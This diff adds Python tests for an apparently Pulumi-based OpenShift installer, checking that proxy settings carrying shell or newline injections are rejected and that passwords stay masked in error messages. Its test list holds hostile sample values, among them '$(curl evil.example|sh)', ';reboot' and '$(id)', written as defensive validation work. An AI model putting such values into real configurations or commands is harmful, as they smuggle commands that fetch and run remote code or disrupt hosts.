@@ -269,6 +269,36 @@ def test_the_installers_own_formats_are_accepted():
     assert openstack is not None and [str(c) for c in openstack.api_allowed_cidrs] == ["198.51.100.0/24", "192.0.2.0/28"]
 
 
+# The proxy reaches the nodes' environment files and shell-run tools: the whole value is checked.
+BAD_PROXIES = [
+    ({"httpProxy": "http://proxy:3128\nNO_PROXY=*"}, "ocp:proxy.httpProxy: 'http://proxy:3128\\nNO_PROXY=*' is not a proxy URL"),
+    ({"httpsProxy": "http://proxy:3128/$(curl evil.example|sh)"}, "ocp:proxy.httpsProxy: 'http://proxy:3128/$(curl evil.example|sh)' is not a proxy URL"),
+    ({"httpProxy": "http://proxy:3128;reboot"}, "ocp:proxy.httpProxy: 'http://proxy:3128;reboot' is not a proxy URL"),
+    ({"httpProxy": "https://proxy:3128 `id`"}, "ocp:proxy.httpProxy: 'https://proxy:3128 `id`' is not a proxy URL"),
+    # A password's own characters: percent-encoded; the message never shows the password.
+    ({"httpProxy": "http://ops:pa$(id)@proxy:3128"}, "ocp:proxy.httpProxy: 'http://***@proxy:3128' is not a proxy URL: write http://host:port (or http://user:password@host:port, any character of the user or password but letters, digits and - . _ ~ + , = percent-encoded, %24 for $)"),
+    ({"noProxy": [".example.com", "10.0.0.0/8\nHTTP_PROXY=http://evil:1"]}, "ocp:proxy.noProxy[1]: '10.0.0.0/8\\nHTTP_PROXY=http://evil:1' is not a domain, address, CIDR or *"),
+    ({"noProxy": "localhost,$(id)"}, "ocp:proxy.noProxy[1]: '$(id)' is not a domain, address, CIDR or *: write e.g. .example.com or 10.0.0.0/8"),
+]
+
+
+@pytest.mark.parametrize("proxy,expected", BAD_PROXIES, ids=[text[:40] for _, text in BAD_PROXIES])
+def test_a_proxy_value_with_a_line_break_or_shell_text_is_refused(proxy, expected):
+    recorded, error = run_recording(bad("proxy", proxy))
+    assert isinstance(error, pulumi.RunError), error
+    assert expected in str(error) and "ops:pa" not in str(error)
+    assert recorded.resources == []
+
+
+def test_proxies_as_users_write_them_are_accepted():
+    proxy = load_config(bad("proxy", {
+        "httpProxy": "http://ops:p%40ss%24@proxy.example.com:3128/", "httpsProxy": "http://[fd00::1]:3128",
+        "noProxy": ".example.com, 10.0.0.0/8, fd00::/64, localhost, *",
+    })).proxy
+    assert proxy is not None and proxy.http_proxy == "http://ops:p%40ss%24@proxy.example.com:3128/"
+    assert proxy.no_proxy == (".example.com", "10.0.0.0/8", "fd00::/64", "localhost", "*")
+
+
 def test_every_key_of_the_helpers_ssh_keys_reaches_the_helper():
     keys = DEV["ocp:sshKey"] + "\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 ops@bastion"
     recorded, error = run_recording({**with_section(DEV, "bootstrap", configSource="helper"), "ocp:sshKey": keys})
